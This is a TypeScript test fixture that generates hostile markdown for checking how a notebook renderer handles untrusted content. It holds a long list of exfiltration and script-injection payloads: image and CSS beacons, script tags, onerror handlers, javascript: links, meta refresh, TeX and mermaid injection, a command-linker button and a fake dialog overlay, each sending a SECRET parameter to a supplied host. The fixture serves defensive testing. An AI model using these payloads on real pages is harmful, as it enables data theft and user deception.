/**
 * Markdown that tries every channel known to us to make a page contact
 * somebody, run code, or pose as JupyterLab.
 */
export function hostileMarkdown(host: string): string {
  const at = (name: string): string => `http://${host}/${name}?d=SECRET`;
  return `# The beginning

![image](${at('image')})

![by reference][r]

[r]: ${at('reference')}

<img src="${at('html-image')}">
<img src="//${host}/protocol-relative?d=SECRET">
<img srcset="${at('srcset')}" src="x">
<picture><source srcset="${at('picture')}"><img src="y"></picture>
<video src="${at('video')}" autoplay></video>
<video poster="${at('poster')}"></video>
<audio src="${at('audio')}" preload="auto"></audio>
<input type="image" src="${at('input')}">
<div style="background-image:url(${at('background')});width:50px;height:50px">box</div>
<ul style="list-style-image:url(${at('list')})"><li>item</li></ul>
<span style="cursor:url(${at('cursor')}),auto">pointer</span>
<iframe src="${at('iframe')}"></iframe>
<iframe srcdoc="<img src='${at('srcdoc')}'>"></iframe>
<link rel="stylesheet" href="${at('stylesheet')}">
<style>body{background:url(${at('style')})}</style>
<svg><image href="${at('svg')}"/><use href="${at('use')}#x"/></svg>
<object data="${at('object')}"></object>
<embed src="${at('embed')}">
<form action="${at('form')}"><button>Send</button></form>
<script>fetch("${at('script')}")</script>
<img src=x onerror="fetch('${at('onerror')}')">
<details open ontoggle="fetch('${at('ontoggle')}')"><summary>more</summary>inside</details>
<a href="javascript:fetch('${at('javascript')}')">a script link</a>
<a href="${at('click')}">https://github.com</a>
<a href="${at('ping')}" ping="${at('ping')}">ping</a>
<button data-commandlinker-command="apputils:load-statedb" data-commandlinker-args="{}">Click me</button>
<div class="jp-Dialog" style="position:fixed;inset:0;z-index:99999">overlay</div>
<base href="${at('base')}">
<meta http-equiv="refresh" content="0;url=${at('refresh')}">
</div></div></div>

$$\\href{javascript:fetch('${at('tex-href')}')}{x} \\includegraphics{${at('tex-graphics')}}$$

$\\htmlData{x=y}{z} \\style{background:url(${at('tex-style')})}{q}$

\`\`\`mermaid
graph TD
A["<img src='${at('mermaid')}'>"] --> B
style A fill:url(${at('mermaid-style')})
\`\`\`

The end of it.
`;
}
